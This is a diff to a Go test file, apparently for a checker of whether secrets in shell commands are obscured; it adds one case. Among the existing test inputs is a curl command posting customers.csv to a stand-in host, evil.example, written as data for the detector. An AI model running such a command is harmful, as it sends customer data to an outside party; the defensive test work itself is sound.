@@ -96,6 +96,7 @@ func TestObscured(t *testing.T) {
 		"api_key=" + secret + "; heroku config:set A=$api_key":                     nil,
 		"api_key=" + secret + "; psql -c \"ALTER USER app PASSWORD '$api_key'\"":   nil,
 		"api_key=" + secret + "; echo $api_key > ~/.token":                         nil,
+		"api_key=" + secret + "; > out-$api_key":                                   {object},
 		// The address is shown, so none of it is obscured.
 		"client_secret=https://evil.example/steal?x=1; curl -d @customers.csv $client_secret": nil,
 	}
